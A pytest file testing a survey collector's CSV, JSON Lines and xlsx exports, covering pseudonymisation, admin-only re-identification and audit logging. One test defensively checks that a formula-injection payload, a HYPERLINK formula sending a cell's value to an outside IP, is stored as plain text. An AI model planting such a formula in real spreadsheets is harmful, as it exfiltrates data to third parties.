"""Exports: Central's CSV layout, JSON Lines, pseudonymised values, summaries, profiles."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import tempfile
import zipfile
from functools import partial
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.worksheet._writer import ALL_TEMP_FILES, create_temporary_file
from sqlalchemy import Engine, event, select, update
from sqlalchemy.orm import Session, sessionmaker

from collector import export, export_xlsx, exportrun, publishing, vault
from collector.audit import CLI, Actor
from collector.dataset import GEO_PARTS, Viewer
from collector.db import session_factory, transaction
from collector.errors import Forbidden, InvalidInput
from collector.export_xlsx import write_xlsx
from collector.models import AuditEntry, Form, FormVersion, SubmissionPart, SubmissionRecord
from tests.collector.test_vault import profile
from tests.support.pipeline import process_all, publish, submit
from tests.support.xlsform import PROFILE, md_to_xlsx

MANAGER = Actor("user", 2, "dm@example.org", role="data-manager")
ADMIN = Actor("user", 1, "admin@example.org", role="admin")
PEOPLE = [
    ("Ayşe Yılmaz", "+90 532 123 45 67", "U1234567", ("Ali Yılmaz", "Zeynep Yılmaz")),
    ("Omar Haddad", "+963 944 000 111", "N1230000", ()),
    ("محمد الأحمد", "+963 944 123 456", "N0011223", ("فاطمة",)),
]


@pytest.fixture
def sessions(db_engine: Engine) -> sessionmaker[Session]:
    return session_factory(db_engine)


@pytest.fixture
def loaded(sessions: sessionmaker[Session], kek: bytes) -> FormVersion:
    with transaction(sessions) as session:
        version = publish(session, kek, PROFILE)
    with sessions() as session:
        for name, phone, passport, members in PEOPLE:
            submit(
                session,
                version,
                profile(name, phone, passport, members, narrative=f"story of {name}"),
            )
        broken = submit(session, version, profile("Broken", "0", "X"))
        session.execute(
            update(SubmissionPart)
            .where(
                SubmissionPart.name == "submission.xml.enc",
                SubmissionPart.submission_id
                == select(SubmissionPart.submission_id)
                .where(SubmissionPart.name == "submission.xml.enc")
                .order_by(SubmissionPart.submission_id.desc())
                .limit(1)
                .scalar_subquery(),
            )
            .values(data=b"\x00" * 64)
        )
        session.commit()
        assert broken
    process_all(sessions, kek)
    return version


def run(
    sessions: sessionmaker[Session], kek: bytes, writer: Any, **kw: Any
) -> tuple[bytes, dict[str, Any]]:
    out = io.BytesIO()
    with sessions() as session:
        form = session.scalars(select(Form)).one()
        kw.setdefault("actor", MANAGER)
        kw.setdefault("viewer", Viewer(vault.Secrets(kek)))
        summary = writer(out, session, form, **kw)
    return out.getvalue(), summary


def read_zip(data: bytes) -> dict[str, list[dict[str, str]]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {
            name: list(csv.DictReader(io.StringIO(archive.read(name).decode())))
            for name in archive.namelist()
            if name.endswith(".csv")
        }


def test_csv_zip_is_pseudonymised_and_joined_like_central(
    sessions: sessionmaker[Session], kek: bytes, loaded: FormVersion
) -> None:
    data, summary = run(sessions, kek, export.write_csv_zip)
    tables = read_zip(data)
    assert set(tables) == {"profile.csv", "profile-household.csv"}
    root, household = tables["profile.csv"], tables["profile-household.csv"]
    assert len(root) == 3
    assert len(household) == 3
    assert list(root[0])[:2] == ["SubmissionDate", "full_name"]
    assert "officer_notes" not in root[0]
    assert all(r["full_name"].startswith("P") and r["dob"] == "1990" for r in root)
    assert all(r["narrative"] == "" for r in root)
    keys = {r["KEY"] for r in root}
    assert {r["PARENT_KEY"] for r in household} <= keys
    assert all(r["KEY"].startswith(r["PARENT_KEY"] + "/household[") for r in household)
    for name, phone, passport, members in PEOPLE:
        for secret in (name, phone, passport, *members, f"story of {name}"):
            assert secret.encode() not in data
    assert (summary["received"], summary["processed"], summary["exported"]) == (4, 3, 3)
    assert summary["failed"] == {"corrupt-file": 1}
    assert summary["withheld_columns"] == ["narrative", "document_photo"]
    assert summary["warnings"]
    assert "fewer than 5" in summary["warnings"][0]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert json.loads(archive.read("summary.json"))["exported"] == 3


def test_jsonl_nests_repeats_and_ends_with_the_summary(
    sessions: sessionmaker[Session], kek: bytes, loaded: FormVersion
) -> None:
    data, _summary = run(sessions, kek, export.write_jsonl)
    lines = [json.loads(line) for line in data.decode().splitlines()]
    rows, last = lines[:-1], lines[-1]
    assert last["__summary"]["exported"] == 3
    assert [len(r["household"]) for r in rows] == [2, 0, 1]
    assert rows[0]["household"][0]["member_name"].startswith("P")
    assert rows[0]["full_name"] != rows[1]["full_name"]


def test_sensitive_values_open_only_when_asked(
    sessions: sessionmaker[Session], kek: bytes, loaded: FormVersion
) -> None:
    viewer = Viewer(vault.Secrets(kek), sensitive=True)
    data, summary = run(sessions, kek, export.write_csv_zip, viewer=viewer, actor=ADMIN)
    narratives = {r["narrative"] for r in read_zip(data)["profile.csv"]}
    assert narratives == {f"story of {p[0]}" for p in PEOPLE}
    assert summary["withheld_columns"] == []


def test_reidentified_export_is_admin_only_with_a_reason(
    sessions: sessionmaker[Session], kek: bytes, loaded: FormVersion
) -> None:
    viewer = Viewer(vault.Secrets(kek), reidentify=True)
    with pytest.raises(Forbidden):
        run(
            sessions,
            kek,
            export.write_csv_zip,
            viewer=viewer,
            profile="reidentified",
            reason="tracing",
        )
    with pytest.raises(InvalidInput):
        run(sessions, kek, export.write_csv_zip, viewer=viewer, profile="reidentified", actor=ADMIN)
    data, _ = run(
        sessions,
        kek,
        export.write_csv_zip,
        viewer=viewer,
        profile="reidentified",
        actor=ADMIN,
        reason="family tracing, case 12",
    )
    names = {r["full_name"] for r in read_zip(data)["profile.csv"]}
    assert names == {p[0] for p in PEOPLE}
    with sessions() as session:
        actions = [
            (e.action, e.actor_id)
            for e in session.scalars(select(AuditEntry).where(AuditEntry.action.like("export.%")))
        ]
    assert actions == [("export.refused", 2), ("export.start", 1)]


def test_cli_actor_may_export(
    sessions: sessionmaker[Session], kek: bytes, loaded: FormVersion
) -> None:
    data, summary = run(sessions, kek, export.write_jsonl, actor=CLI)
    assert summary["exported"] == 3
    assert data


def read_xlsx(data: bytes) -> dict[str, list[list[Any]]]:
    book = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    try:
        return {sheet.title: [list(r) for r in sheet.iter_rows(values_only=True)] for sheet in book}
    finally:
        book.close()


def xlsx_text(data: bytes) -> bytes:
    """Every part of a workbook, decompressed (what a search of its content must cover)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return b"".join(archive.read(name) for name in archive.namelist())


def as_csv(cell: Any) -> str:
    return "" if cell is None else str(cell)


def test_xlsx_holds_the_csv_zips_tables_pseudonymised(
    sessions: sessionmaker[Session], kek: bytes, loaded: FormVersion
) -> None:
    zipped, _ = run(sessions, kek, partial(export.write_csv_zip, attachments=False))
    data, summary = run(sessions, kek, write_xlsx)
    sheets = read_xlsx(data)
    assert list(sheets) == ["profile", "household", "summary"]
    with zipfile.ZipFile(io.BytesIO(zipped)) as archive:
        for sheet, name in (("profile", "profile.csv"), ("household", "profile-household.csv")):
            rows = list(csv.reader(io.StringIO(archive.read(name).decode())))
            assert [[as_csv(c) for c in row] for row in sheets[sheet]] == rows
    header = sheets["profile"][0]
    sizes = [row[header.index("group_size")] for row in sheets["profile"][1:]]
    assert sizes
    assert all(isinstance(size, int) for size in sizes)  # numbers, not text
    at = sheets["household"][0].index("member_age")
    ages = [row[at] for row in sheets["household"][1:]]
    assert all(isinstance(age, str) and "-" in age for age in ages)  # a band stays text
    content = xlsx_text(data)
    for name, phone, passport, members in PEOPLE:
        for secret in (name, phone, passport, *members, f"story of {name}"):
            assert secret.encode() not in content
    info = dict((row[0], row[1]) for row in sheets["summary"])
    assert (info["exported"], info["processed"]) == (3, 3) == (summary["exported"], 3)
    assert json.loads(info["withheld_columns"]) == ["narrative", "document_photo"]
    with sessions() as session:
        started = session.scalars(
            select(AuditEntry).where(AuditEntry.action == "export.start")
        ).all()
    assert json.loads(started[-1].details)["format"] == "xlsx"


TEXTS = """
| survey   |
|          | type    | name   | label  |
|          | text    | remark | Remark |
|          | integer | count  | Count  |
|          | decimal | weight | Weight |
| settings |
|          | form_id | version |
|          | texts   | 1       |
"""


def test_xlsx_cells_are_text_never_formulas_and_long_tables_go_on(
    sessions: sessionmaker[Session], kek: bytes
) -> None:
    formula = '=HYPERLINK("http://198.51.100.7/x?"&A2,"open")'
    long = "y" * 40_000
    answers = [(formula, "12", "3.50"), (long, "007", "1e3"), ("plain", "-4", "0.25")]
    with transaction(sessions) as session:
        version = publish(session, kek, TEXTS)
    with sessions() as session:
        for remark, count, weight in answers:
            values = f"<remark>{remark}</remark><count>{count}</count><weight>{weight}</weight>"
            submit(session, version, values.replace("&", "&amp;").replace('"', "&quot;"))
        session.commit()
    process_all(sessions, kek)
    data, summary = run(sessions, kek, partial(write_xlsx, rows_per_sheet=3))
    assert summary["xlsx_cells_truncated"] == 1
    sheets = read_xlsx(data)
    # Two rows under the header per sheet: the third submission goes on in "texts (2)".
    assert list(sheets) == ["texts", "texts (2)", "summary"]
    assert sheets["texts"][0] == sheets["texts (2)"][0]
    header = sheets["texts"][0]
    rows = sheets["texts"][1:] + sheets["texts (2)"][1:]
    got = {
        r[header.index("remark")][:10]: (r[header.index("count")], r[header.index("weight")])
        for r in rows
    }
    # Oldest first: an integer with a leading zero and an exponent stay text.
    assert got == {formula[:10]: (12, 3.5), "y" * 10: ("007", "1e3"), "plain": (-4, 0.25)}
    remarks = [r[header.index("remark")] for r in rows]
    assert formula in remarks
    assert "y" * 32_767 in remarks
    book = openpyxl.load_workbook(io.BytesIO(data))  # Not read-only: it tells cell types.
    cells = [c for row in book["texts"].iter_rows() for c in row if c.value == formula]
    assert len(cells) == 1
    assert cells[0].data_type == "s"
    assert b"<f>" not in xlsx_text(data)  # No formula anywhere in the workbook.


def test_xlsx_text_drops_what_xml_cannot_carry() -> None:
    # An instance cannot hold these (XML 1.0 refuses them), but a cell is guarded anyway:
    # openpyxl would refuse the whole workbook.
    book = openpyxl.Workbook(write_only=True)
    cells = export_xlsx._Cells()
    assert cells.text(book.create_sheet("t"), "a\x01b\x1fc\td") == "abc\td"
    assert cells.truncated == 0


class FailingOutput(io.BytesIO):
    """An output stream that fails once it has taken ``limit`` bytes (a full disk, say)."""

    def __init__(self, limit: int):
        super().__init__()
        self.limit = limit

    def write(self, data: Any) -> int:
        if self.tell() + len(data) > self.limit:
            raise OSError(28, "No space left on device")
        return super().write(data)


@pytest.mark.parametrize("fails", ["while rows are written", "while the workbook is saved"])
def test_a_failed_xlsx_export_leaves_no_worksheet_file_behind(
    sessions: sessionmaker[Session],
    kek: bytes,
    loaded: FormVersion,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    fails: str,
) -> None:
    # openpyxl writes each worksheet's XML (a re-identified export's plaintext) to a file.
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    others = create_temporary_file()  # another export's, in flight: left alone
    seen: dict[Path, int] = {}

    def progress(_done: int) -> None:
        seen.update((p, stat.S_IMODE(p.stat().st_mode)) for p in scratch.rglob("*"))
        if fails == "while rows are written":
            raise RuntimeError("interrupted")

    out = FailingOutput(limit=1_000 if fails == "while the workbook is saved" else 10**9)
    try:
        with sessions() as session:
            form = session.scalars(select(Form)).one()
            failure = RuntimeError if fails == "while rows are written" else OSError
            with pytest.raises(failure):
                write_xlsx(
                    out,
                    session,
                    form,
                    actor=ADMIN,
                    viewer=Viewer(vault.Secrets(kek), reidentify=True),
                    profile="reidentified",
                    reason="audit of the failure path",
                    progress=progress,
                )
        # The worksheets were on disk, in a directory of this export (not as openpyxl.*)…
        sheets = [p for p in seen if p.suffix == ".xml"]
        assert len(sheets) == 2  # the form and its repeat (the summary comes last)
        assert all(p.parent.name.startswith("collector-xlsx-") for p in sheets)
        assert seen[sheets[0].parent] == 0o700
        # …and nothing of it is left, on disk or in openpyxl's list; the other file is.
        assert sorted(scratch.iterdir()) == [Path(others)]
        assert [f for f in ALL_TEMP_FILES if f.startswith(str(scratch))] == [others]
    finally:
        os.remove(others)
        ALL_TEMP_FILES.remove(others)


def _rewrite_records(sessions: sessionmaker[Session], change: Any) -> None:
    """Store every record again as ``change`` turns its decoded document into text."""
    with transaction(sessions) as session:
        for record in session.scalars(select(SubmissionRecord)):
            record.data = change(json.loads(record.data))


def test_export_renders_subjects_the_text_scan_could_not_see(
    sessions: sessionmaker[Session], kek: bytes, loaded: FormVersion
) -> None:
    # Exports find a batch's subjects in the records' text before decoding them. A record
    # written another way (no spaces after separators) hides its references from that scan:
    # each subject is then looked up as it is rendered, and the export is the same.
    before = read_zip(run(sessions, kek, export.write_csv_zip)[0])
    _rewrite_records(sessions, lambda doc: json.dumps(doc, separators=(",", ":")))
    after = read_zip(run(sessions, kek, export.write_csv_zip)[0])
    assert after == before
    assert all(r["full_name"].startswith("P") for r in after["profile.csv"])
    assert all(r["member_name"].startswith("P") for r in after["profile-household.csv"])


def test_export_leaves_a_reference_to_no_subject_empty(
    sessions: sessionmaker[Session], kek: bytes, loaded: FormVersion
) -> None:
    def dangling(doc: dict[str, Any]) -> str:
        doc["root"]["/data/phone"] = {"subject": 10**9}
        return json.dumps(doc)

    _rewrite_records(sessions, dangling)
    root = read_zip(run(sessions, kek, export.write_csv_zip)[0])["profile.csv"]
    assert [r["phone"] for r in root] == ["", "", ""]
    assert all(r["full_name"].startswith("P") for r in root)


def test_an_export_resolves_each_batchs_subjects_with_one_query(
    sessions: sessionmaker[Session],
    kek: bytes,
    loaded: FormVersion,
    db_engine: Engine,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(exportrun, "EXPORT_BATCH", 2)  # three submissions: two batches
    lookups: list[str] = []

    def seen(_conn: Any, _cursor: Any, statement: str, *_args: Any) -> None:
        if "FROM vault_subjects" in statement:
            lookups.append(statement)

    event.listen(db_engine, "before_cursor_execute", seen)
    try:
        data, summary = run(sessions, kek, export.write_csv_zip)
    finally:
        event.remove(db_engine, "before_cursor_execute", seen)
    assert summary["exported"] == 3
    assert len(lookups) == 2
    assert all(r["phone"].startswith("P") for r in read_zip(data)["profile.csv"])


def test_csv_zip_has_centrals_columns(
    sessions: sessionmaker[Session], kek: bytes, loaded: FormVersion
) -> None:
    """Central's briefcase CSV: a repeat's columns named within it, a geopoint in four columns,
    the submission date in UTC with milliseconds, and Central's trailer."""
    data, _summary = run(sessions, kek, export.write_csv_zip)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        root = list(csv.reader(io.StringIO(archive.read("profile.csv").decode())))
        household = list(csv.reader(io.StringIO(archive.read("profile-household.csv").decode())))
    header = root[0]
    assert header[-10:] == [
        "KEY",
        "SubmitterID",
        "SubmitterName",
        "AttachmentsPresent",
        "AttachmentsExpected",
        "Status",
        "ReviewState",
        "DeviceID",
        "Edits",
        "FormVersion",
    ]
    at = header.index("location-Latitude")
    assert header[at : at + 4] == [f"location-{p}" for p in GEO_PARTS]
    assert "location" not in header
    assert "meta-instanceID" in header
    assert household[0] == ["member_name", "member_age", "PARENT_KEY", "KEY"]
    for row in root[1:]:
        values = dict(zip(header, row, strict=True))
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", values["SubmissionDate"])
        # The point is generalised to two decimals (round:2): latitude and longitude only.
        assert [values[f"location-{p}"] for p in GEO_PARTS] == ["41.01", "28.98", "", ""]
        assert values["Edits"] == "0"
        assert values["AttachmentsExpected"].isdigit()
        assert values["meta-instanceID"] == values["KEY"]
    # Without group paths a column is headed by its field's name.
    flat, _summary = run(sessions, kek, export.write_csv_zip, group_paths=False)
    with zipfile.ZipFile(io.BytesIO(flat)) as archive:
        flat_header = archive.read("profile.csv").decode().splitlines()[0].split(",")
    assert flat_header == [h.replace("meta-instanceID", "instanceID") for h in header]


NEEDS = """
| survey   |
|          | type                 | name      | label     | pii       |
|          | select_multiple need | needs     | Needs     |           |
|          | select_multiple need | private   | Private   | sensitive |
|          | begin_repeat         | member    | Member    |           |
|          | select_multiple lang | languages | Languages |           |
|          | end_repeat           |           |           |           |
| choices  |
|          | list_name | name    | label   |
|          | need      | food    | Food    |
|          | need      | shelter | Shelter |
|          | need      | legal   | Legal   |
|          | lang      | ar      | Arabic  |
|          | lang      | tr      | Turkish |
|          | lang      | fa      | Farsi   |
| settings |
|          | form_id | version |
|          | needs   | 1       |
"""


def test_split_select_multiples_gives_each_value_seen_a_column(
    sessions: sessionmaker[Session], kek: bytes
) -> None:
    with transaction(sessions) as session:
        version = publish(session, kek, NEEDS)
    answers = (
        ("food shelter", "legal", ("ar tr", "tr")),
        ("shelter", "food", ("fa",)),
        ("", "", ()),
    )
    with sessions() as session:
        for needs, private, languages in answers:
            members = "".join(f"<member><languages>{v}</languages></member>" for v in languages)
            submit(session, version, f"<needs>{needs}</needs><private>{private}</private>{members}")
        session.commit()
    process_all(sessions, kek)
    # An admin may see the sensitive field, and still it is not split: only fields without
    # a PII rule are, so that no reader learns more from the columns than from the field.
    admin = Viewer(vault.Secrets(kek), sensitive=True)
    data, _summary = run(
        sessions, kek, export.write_csv_zip, split_select_multiples=True, viewer=admin
    )
    tables = read_zip(data)
    root, member = tables["needs.csv"], tables["needs-member.csv"]
    assert [h for h in root[0] if "/" in h] == ["needs/food", "needs/shelter"]  # seen, sorted
    by_answer = {r["needs"]: (r["needs/food"], r["needs/shelter"]) for r in root}
    assert by_answer == {"food shelter": ("1", "1"), "shelter": ("0", "1"), "": ("0", "0")}
    assert {r["private"] for r in root} == {"legal", "food", ""}
    assert [h for h in member[0] if "/" in h] == ["languages/ar", "languages/fa", "languages/tr"]
    rows = {r["languages"]: [r[f"languages/{v}"] for v in ("ar", "fa", "tr")] for r in member}
    assert rows == {"ar tr": ["1", "0", "1"], "tr": ["0", "0", "1"], "fa": ["0", "1", "0"]}
    # Without the option, one column per field, as before.
    plain = read_zip(run(sessions, kek, export.write_csv_zip)[0])
    assert not any("/" in h for h in plain["needs.csv"][0])
    # A filter narrows the values seen too.
    data, summary = run(
        sessions,
        kek,
        export.write_csv_zip,
        split_select_multiples=True,
        odata_filter="__system/submissionDate ge 2100-01-01",
    )
    assert summary["exported"] == 0
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        header = archive.read("needs.csv").decode().splitlines()[0]
    assert "needs," in header
    assert "/" not in header


CHANGING = """
| survey   |
|          | type         | name    | label   | pii        |
|          | text         | town    | Town    |            |
{rows}
| settings |
|          | form_id  | version   |
|          | changing | {version} |
"""
CHANGING_V1 = """\
|          | text         | contact | Contact | identifier |
|          | text         | story   | Story   | sensitive  |
|          | begin_repeat | trip    | Trip    |            |
|          | text         | stop    | Stop    |            |
|          | end_repeat   |         |         |            |"""
CHANGING_V2 = """\
|          | integer      | size    | Size    |            |"""


def test_deleted_fields_export_what_only_earlier_versions_asked(
    sessions: sessionmaker[Session], kek: bytes
) -> None:
    with transaction(sessions) as session:
        first = publish(session, kek, CHANGING.format(rows=CHANGING_V1, version="1"))
        project_id = first.form.project_id
    with sessions() as session:
        submit(
            session,
            first,
            "<town>Van</town><contact>Dilek Kaya</contact><story>crossed at night</story>"
            "<trip><stop>Erciş</stop></trip><trip><stop>Tatvan</stop></trip>",
        )
        session.commit()
    with transaction(sessions) as session:
        second = publishing.publish_xlsform(
            session, project_id, md_to_xlsx(CHANGING.format(rows=CHANGING_V2, version="2"))
        )
    with sessions() as session:
        submit(session, second, "<town>Muş</town><size>4</size>")
        session.commit()
    process_all(sessions, kek)

    # By default, the current version's columns only, as before.
    plain = read_zip(run(sessions, kek, export.write_csv_zip)[0])
    assert set(plain) == {"changing.csv"}
    assert "story" not in plain["changing.csv"][0]

    data, summary = run(sessions, kek, export.write_csv_zip, deleted_fields=True)
    tables = read_zip(data)
    assert set(tables) == {"changing.csv", "changing-trip.csv"}
    root = {r["town"]: r for r in tables["changing.csv"]}
    header = list(tables["changing.csv"][0])
    assert header[:5] == ["SubmissionDate", "town", "size", "meta-instanceID", "contact"]
    assert header.index("story") == 5
    assert summary["deleted_columns"] == ["contact", "story", "trip-stop"]
    # The earlier version's rule still holds: the identifier as its pseudonym, the sensitive
    # value withheld from a data manager; the later submission leaves those columns blank.
    assert root["Van"]["contact"].startswith("P")
    assert root["Van"]["story"] == ""
    assert (root["Muş"]["contact"], root["Muş"]["size"]) == ("", "4")
    assert (root["Van"]["size"], root["Van"]["FormVersion"]) == ("", "1")
    assert [r["stop"] for r in tables["changing-trip.csv"]] == ["Erciş", "Tatvan"]
    assert {r["PARENT_KEY"] for r in tables["changing-trip.csv"]} == {root["Van"]["KEY"]}
    for secret in ("Dilek Kaya", "crossed at night"):
        assert secret.encode() not in data
    assert "story" in summary["withheld_columns"]
    admin = Viewer(vault.Secrets(kek), sensitive=True)
    opened = read_zip(
        run(sessions, kek, export.write_csv_zip, deleted_fields=True, viewer=admin, actor=ADMIN)[0]
    )
    assert {r["story"] for r in opened["changing.csv"]} == {"crossed at night", ""}

    # JSON Lines and xlsx take the option too.
    lines = run(sessions, kek, export.write_jsonl, deleted_fields=True)[0].decode().splitlines()
    first_row = json.loads(lines[0])
    assert first_row["contact"].startswith("P")
    assert [t["stop"] for t in first_row["trip"]] == [
        "Erciş",
        "Tatvan",
    ]
    book = read_xlsx(run(sessions, kek, write_xlsx, deleted_fields=True)[0])
    assert "stop" in book["trip"][0]
    with sessions() as session:
        starts = session.scalars(
            select(AuditEntry).where(AuditEntry.action == "export.start")
        ).all()
    flagged = [json.loads(e.details or "{}").get("deleted_fields") for e in starts]
    assert flagged.count(True) == 4
    assert flagged.count(None) == 1
